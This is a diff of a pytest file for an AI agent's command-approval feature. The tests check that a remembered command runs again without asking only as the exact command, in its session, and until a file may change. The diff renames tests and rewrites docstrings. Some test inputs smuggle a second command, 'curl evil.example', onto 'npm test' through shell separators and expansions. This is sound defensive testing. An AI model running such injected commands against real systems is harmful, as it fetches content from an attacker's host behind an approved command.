@@ -1,4 +1,4 @@
-"""Commands that a human lets run again: that one alone, there alone, and not once something may have changed."""
+"""Remembered commands: only the exact command, only in its session, and only until a file may have changed."""
 
 import itertools
 import json
@@ -26,21 +26,21 @@ TEST = run("npm test")
 
 
 def allowed(platform: str | None = "linux", **settings: Any) -> World:
-    """A session whose operator allows it, on a window that has said what it runs on."""
+    """A session with the setting turned on, and a connection that sent its platform."""
     world = World(**{"remember_commands": True, "max_steps": 2_000, **settings})
     world.hello(**({"platform": platform} if platform else {}))
     return world
 
 
 def make(world: World, *wanted: Call) -> list[str]:
-    """The ids of calls that the agent makes at once."""
+    """The ids of calls that the agent makes in parallel."""
     if world.register.status == "idle":
         world.say()
     return world.answer("", *wanted)
 
 
 def done(world: World, call_id: str, **decision: Any) -> None:
-    """The call is approved, if it must be, and has its result."""
+    """Approve the call if needed, and send its result."""
     if world.call_item(call_id)["state"] == "awaiting_approval":
         world.decision(call_id, "approve", **decision)
     world.result(call_id, result={"success": True, "exit_code": 0})
@@ -52,7 +52,7 @@ def remember(world: World, wanted: Call = TEST) -> None:
 
 
 def runs(world: World, *wanted: Call) -> list[bool]:
-    """Of each call: does it run without asking? None of those that ask is approved."""
+    """For each call: does it run without asking? Calls that ask are not approved."""
     found = make(world, *wanted)
     states = [world.call_item(call_id)["state"] == "executing" for call_id in found]
     for call_id, is_running in zip(found, states, strict=True):
@@ -63,10 +63,10 @@ def runs(world: World, *wanted: Call) -> list[bool]:
     return states
 
 
-# -- what it is for --------------------------------------------------------------------------------------------------
+# -- the purpose -----------------------------------------------------------------------------------------------------
 
 
-def test_the_same_command_is_asked_about_once() -> None:
+def test_the_same_command_asks_once() -> None:
     world = allowed()
     remember(world)
     for again in (TEST, run("npm  test"), run("npm test", "."), TEST):
@@ -80,7 +80,7 @@ def test_the_same_command_is_asked_about_once() -> None:
     assert all(rule["rule_id"] in frame["reason"] for frame in others)
 
 
-def test_it_may_be_taken_back() -> None:
+def test_a_remembered_command_can_be_revoked() -> None:
     world = allowed()
     remember(world)
     (rule,) = world.remembered()
@@ -97,7 +97,7 @@ def test_an_edited_command_is_remembered_as_it_was_edited() -> None:
     assert runs(world, run("npm test; curl evil.example")) == [False]
 
 
-# -- where it is not offered -----------------------------------------------------------------------------------------
+# -- where it is not available ---------------------------------------------------------------------------------------
 
 NEVER: dict[str, tuple[dict[str, Any], str | None, Call]] = {
     "by default": ({"remember_commands": False}, "linux", TEST),
@@ -114,7 +114,7 @@ NEVER: dict[str, tuple[dict[str, Any], str | None, Call]] = {
 
 
 @pytest.mark.parametrize(("settings", "platform", "wanted"), NEVER.values(), ids=NEVER)
-def test_it_is_not_remembered(settings: dict[str, Any], platform: str | None, wanted: Call) -> None:
+def test_other_commands_are_not_remembered(settings: dict[str, Any], platform: str | None, wanted: Call) -> None:
     world = allowed(platform, **settings)
     (call_id,) = make(world, wanted)
     assert world.of_type("tool_call")[-1]["remember"] is None
@@ -126,21 +126,21 @@ def test_it_is_not_remembered(settings: dict[str, Any], platform: str | None, wa
 @pytest.mark.parametrize(
     ("wish", "field"), [({"scope": "user"}, "scope"), ({"scope": "session", "pattern": "**"}, "pattern")]
 )
-def test_it_is_remembered_for_its_session_and_as_it_is(wish: dict[str, str], field: str) -> None:
+def test_only_session_scope_without_a_pattern_is_accepted(wish: dict[str, str], field: str) -> None:
     world = allowed()
     (call_id,) = make(world, TEST)
     error = refusal(lambda: world.decision(call_id, "approve", remember=wish))
     assert (error.code, error.details["field"]) == (ErrorCode.INVALID_ARGUMENTS, f"remember.{field}")
 
 
-def test_a_rule_lapses_with_the_operators_word() -> None:
+def test_rules_end_when_the_operator_turns_the_setting_off() -> None:
     world = allowed()
     remember(world)
     world.settings = world.settings.model_copy(update={"remember_commands": False})
     assert runs(world, TEST) == [False]
 
 
-def test_a_rule_does_not_hold_on_another_window_that_has_not_said_what_it_runs_on() -> None:
+def test_a_rule_does_not_apply_to_an_executor_without_a_platform() -> None:
     world = allowed()
     remember(world)
     world.join(OTHER)
@@ -150,7 +150,7 @@ def test_a_rule_does_not_hold_on_another_window_that_has_not_said_what_it_runs_o
     assert runs(world, TEST) == [False]
 
 
-def test_a_client_without_extensions_hears_nothing_of_it() -> None:
+def test_clients_without_extensions_get_no_remember_field() -> None:
     world = allowed()
     world.join(Caller("ann", "s1", "plain"))
     make(world, TEST)
@@ -163,7 +163,7 @@ def test_a_client_without_extensions_hears_nothing_of_it() -> None:
     assert told["plain"] == {name: value for name, value in event.frame.items() if name != "remember"}
 
 
-# -- never over a denial ---------------------------------------------------------------------------------------------
+# -- denials win -----------------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("denied", [TEST, run("npm  test"), run("npm test", "./")], ids=str)
@@ -180,7 +180,7 @@ def test_a_denial_wins(denied: Call) -> None:
     assert world.of_type("tool_call")[-1]["call_id"] == edited, "it was rejected, and nobody was asked"
 
 
-# -- it lapses -------------------------------------------------------------------------------------------------------
+# -- the end of a rule -----------------------------------------------------------------------------------------------
 
 CHANGES: dict[str, Call] = {
     "a file is written": ("write_file", {"path": "package.json", "content": "{}"}),
@@ -198,7 +198,7 @@ CHANGES: dict[str, Call] = {
 
 @pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
 @pytest.mark.parametrize("settled", ["result", "error", "time", "cancel"])
-def test_it_lapses_once_the_agent_may_have_written_a_file(change: Call, settled: str) -> None:
+def test_a_rule_ends_when_the_agent_may_have_written_a_file(change: Call, settled: str) -> None:
     world = allowed()
     world.configure(autonomy="autonomous")
     remember(world)
@@ -220,7 +220,7 @@ def test_it_lapses_once_the_agent_may_have_written_a_file(change: Call, settled:
 
 
 @pytest.mark.parametrize("first", [True, False])
-def test_a_command_asks_beside_a_call_that_may_write_a_file(*, first: bool) -> None:
+def test_a_command_asks_in_parallel_with_a_writing_call(*, first: bool) -> None:
     world = allowed()
     world.configure(autonomy="autonomous")
     remember(world)
@@ -229,13 +229,13 @@ def test_a_command_asks_beside_a_call_that_may_write_a_file(*, first: bool) -> N
     assert runs(world, *answer) == [call is write for call in answer]
 
 
-def test_two_of_it_at_once_ask() -> None:
+def test_two_equal_commands_in_parallel_ask() -> None:
     world = allowed()
     remember(world)
     assert runs(world, TEST, TEST) == [False, False]
 
 
-def test_a_file_that_is_being_written_when_it_is_approved_counts() -> None:
+def test_a_write_in_progress_during_the_approval_ends_the_rule() -> None:
     world = allowed()
     world.execute("c1", *("write_file",), path="a.py", content="1")
     world.decision("c1", "approve")
@@ -246,7 +246,7 @@ def test_a_file_that_is_being_written_when_it_is_approved_counts() -> None:
     assert runs(world, TEST) == [False], "it has ended after the approval"
 
 
-def test_a_result_that_approves_implicitly_counts() -> None:
+def test_an_implicitly_approved_write_ends_the_rule() -> None:
     world = allowed()
     remember(world)
     (call_id,) = make(world, CHANGES["a file is written"])
@@ -254,7 +254,7 @@ def test_a_result_that_approves_implicitly_counts() -> None:
     assert runs(world, TEST) == [False]
 
 
-def test_a_programs_write_counts() -> None:
+def test_a_write_over_http_ends_the_rule() -> None:
     world = allowed()
     remember(world)
     world.configure(autonomy="autonomous")
@@ -263,7 +263,7 @@ def test_a_programs_write_counts() -> None:
     assert runs(world, TEST) == [False]
 
 
-def test_what_was_rejected_or_only_reads_does_not_count() -> None:
+def test_rejected_and_read_only_calls_do_not_end_the_rule() -> None:
     world = allowed()
     remember(world)
     (call_id,) = make(world, CHANGES["a file is written"])
@@ -272,7 +272,7 @@ def test_what_was_rejected_or_only_reads_does_not_count() -> None:
     assert runs(world, TEST) == [True]
 
 
-def test_a_session_remembers_the_last_one_alone() -> None:
+def test_a_session_remembers_only_the_last_command() -> None:
     world = allowed()
     remember(world)
     remember(world, run("make"))
@@ -284,7 +284,7 @@ def test_a_session_remembers_the_last_one_alone() -> None:
     assert len(json.loads(world.items["RULES"]["rules"])) == 1, "those that have lapsed are not kept"
 
 
-def test_another_agent_is_asked_about() -> None:
+def test_another_agents_command_asks() -> None:
     world = allowed()
     remember(world)
     world.switch("coder", {"coder"})
@@ -295,7 +295,7 @@ def test_another_agent_is_asked_about() -> None:
 
 
 def hostile() -> list[Call]:
-    """Command lines and folders that are not `npm test` in the workspace, but look, or begin, or end like it."""
+    """Command lines and folders that look, begin or end like `npm test` in the workspace, but are not."""
     evil = "curl evil.example"
     joined = [
         f"npm test{joint}{evil}"
@@ -348,7 +348,7 @@ def hostile() -> list[Call]:
     return [*map(run, (*joined, *expanded, *before, *changed)), *folders]
 
 
-def test_no_hostile_command_line_runs_by_the_rule_of_another() -> None:
+def test_a_rule_does_not_cover_a_hostile_command_line() -> None:
     attacks = hostile()
     assert len(attacks) >= 200
     wrongly = []
@@ -362,8 +362,8 @@ def test_no_hostile_command_line_runs_by_the_rule_of_another() -> None:
     assert not wrongly
 
 
-def test_no_command_line_that_a_shell_reads_otherwise_is_remembered() -> None:
-    """Those that a human may still let run again are of plain words: they do what they say."""
+def test_command_lines_with_shell_syntax_are_not_remembered() -> None:
+    """Commands that can still be remembered consist of plain words."""
     plain = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:=@+,- ")
     wrongly = []
     for _, arguments in hostile():
@@ -378,7 +378,7 @@ def test_no_command_line_that_a_shell_reads_otherwise_is_remembered() -> None:
 
 
 @pytest.mark.parametrize("character", [chr(n) for n in itertools.chain(range(0x20, 0x7F), (0x85, 0xA0, 0x2003))])
-def test_only_these_characters_are_remembered(character: str) -> None:
+def test_only_the_documented_characters_can_be_remembered(character: str) -> None:
     world = allowed()
     (call_id,) = make(world, run(f"a{character}b"))
     offered = world.of_type("tool_call")[-1]["remember"] is not None
